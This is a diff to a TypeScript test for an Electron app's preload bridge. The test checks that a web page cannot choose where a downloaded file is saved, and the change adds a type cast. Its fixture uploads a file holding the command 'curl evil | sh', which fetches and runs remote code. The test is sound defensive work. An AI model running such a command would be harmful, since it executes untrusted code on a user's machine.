@@ -178,7 +178,7 @@ describe('preload: local paths come only from Files the OS handed over', () => {
     writeFileSync(target, 'alias ls=ls');
     const up = await bridge.invoke('files.uploadPath', { account, parent: 'root', path: dropped('payload.sh', 'curl evil | sh').file });
     electron.crossed.length = 0;
-    const r = await bridge.invoke('files.download', { account, id: up.value.id, to: target });
+    const r = await bridge.invoke('files.download', { account, id: (up as { value: { id: string } }).value.id, to: target });
     expect(r).toMatchObject({ ok: false, error: { code: 'invalid_parameters', message: 'The page cannot choose where a download is saved.' } });
     expect(electron.crossed).toEqual([]);
     expect(readFileSync(target, 'utf8')).toBe('alias ls=ls');
